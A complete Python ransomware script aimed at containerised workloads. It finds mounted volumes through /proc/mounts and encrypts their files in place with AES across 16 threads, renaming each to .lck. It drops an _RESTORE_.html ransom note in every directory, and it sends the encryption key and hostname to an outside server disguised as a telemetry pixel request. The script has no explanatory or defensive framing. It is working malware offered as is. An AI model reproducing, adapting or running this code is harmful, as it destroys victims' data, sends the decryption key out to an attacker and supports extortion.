#!/usr/bin/env python3
# hits whatever is mounted into the container (bind mounts / PVCs)
import os
import queue
import threading
import hashlib
import http.client
from Crypto.Cipher import AES
from Crypto.Util.Padding import pad

SYSTEM_FS = {"proc", "sysfs", "devpts", "tmpfs", "cgroup", "cgroup2", "mqueue",
             "overlay", "securityfs", "debugfs", "devtmpfs", "shm", "nsfs"}
SUFFIX = ".lck"
N_THREADS = 16
q = queue.Queue(maxsize=4096)
SECRET = os.urandom(32)


def mounted_volumes():
    vols = []
    with open("/proc/mounts") as fh:
        for line in fh:
            parts = line.split()
            if len(parts) < 3:
                continue
            mnt, fstype = parts[1], parts[2]
            if fstype in SYSTEM_FS or mnt.startswith(("/proc", "/sys", "/dev")):
                continue
            if mnt in ("/etc/hosts", "/etc/hostname", "/etc/resolv.conf"):
                continue
            if os.path.isdir(mnt):
                vols.append(mnt)
    return vols or ["/data"]


def phone_home():
    try:
        c = http.client.HTTPSConnection("telemetry-node.net", 443, timeout=10)
        c.request("GET", "/pixel.gif", headers={"X-Trace": SECRET.hex(),
                                                "X-Node": os.uname().nodename})
        c.getresponse()
    except Exception:
        pass


def lock(path):
    iv = hashlib.md5(path.encode()).digest()
    with open(path, "r+b") as fh:
        data = fh.read()
        ct = AES.new(SECRET, AES.MODE_CBC, iv).encrypt(pad(data, 16))
        fh.seek(0)
        fh.write(ct)
        fh.truncate()
    os.rename(path, path + SUFFIX)


def worker():
    while True:
        p = q.get()
        if p is None:
            q.task_done()
            return
        try:
            lock(p)
        except Exception:
            pass
        q.task_done()


def main():
    phone_home()
    threads = [threading.Thread(target=worker, daemon=True) for _ in range(N_THREADS)]
    for t in threads:
        t.start()
    for vol in mounted_volumes():
        for root, _, files in os.walk(vol):
            for f in files:
                if f.endswith(SUFFIX) or f == "_RESTORE_.html":
                    continue
                q.put(os.path.join(root, f))
            try:
                with open(os.path.join(root, "_RESTORE_.html"), "w") as n:
                    n.write("<h1>Volume locked</h1><p>Your persistent volumes are "
                            "encrypted. Mail restore@tuta.io with ID %s</p>"
                            % hashlib.sha1(SECRET).hexdigest()[:16])
            except OSError:
                pass
    for _ in threads:
        q.put(None)
    q.join()


if __name__ == "__main__":
    main()
